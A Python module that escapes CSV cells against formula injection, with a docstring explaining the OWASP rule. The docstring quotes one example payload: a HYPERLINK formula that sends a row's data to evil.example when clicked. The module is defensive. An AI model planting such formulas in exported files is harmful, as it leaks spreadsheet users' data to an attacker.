"""CSV cells a spreadsheet will not run: the OWASP rule for CSV injection.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?x="&A1,"x")`` as a
post id sends the row away when clicked). Every CSV the product writes passes its text cells
through ``csv_cell``, which prefixes such a cell with a single quote; a cell that already starts
with a quote is prefixed too, so the rule reverses exactly: drop one leading ``'``
(as a reader would). Numbers we write (counts, costs) are not text and pass unchanged; Parquet
and JSON lines keep every value exact.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet evaluates (text only; other values unchanged)."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, QUOTE)):
        return QUOTE + value
    return value


def csv_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """Every cell of ``row`` through ``csv_cell``."""
    return {k: csv_cell(v) for k, v in row.items()}
